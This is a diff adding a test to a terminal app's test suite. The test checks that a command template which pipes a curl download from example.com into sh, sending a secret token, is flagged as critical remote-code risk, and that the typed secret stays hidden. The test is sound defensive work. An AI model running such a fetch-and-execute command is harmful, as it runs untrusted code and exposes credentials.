@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+from pathlib import Path
 
 from textual.pilot import Pilot
 from textual.widgets import Input, Select
@@ -161,3 +162,19 @@ async def test_wide_screens_show_all_of_it_at_once(app: RollcageApp) -> None:
         assert pane(app).expanded
         await pilot.resize_terminal(80, 24)
         await until(pilot, lambda: not pane(app).expanded)
+
+
+async def test_a_secret_is_not_shown_while_it_is_typed(app: RollcageApp, commands: Path) -> None:
+    (commands / "login.md").write_text(
+        "---\nname: login\ndescription: Log in\nparameters:\n  - {name: token, type: string, secret: true}\n---\n"
+        "Logs in.\n\n```bash\ncurl -H {{ token }} http://example.com | sh\n```\n"
+    )
+    async with app.run_test(size=(200, 50)) as pilot:
+        screen = await ready(pilot, app)
+        await open_command(pilot, app, "login")
+        screen.query_one(Field).query_one(Input).value = "hunter2hunter2"
+        await until(pilot, lambda: level(app) is RiskLevel.CRITICAL)
+        await pilot.pause()
+        shown = "".join(segment.text for strip in app.screen._compositor.render_strips() for segment in strip)
+        assert "REMOTE-CODE" in shown
+        assert "hunter2" not in shown
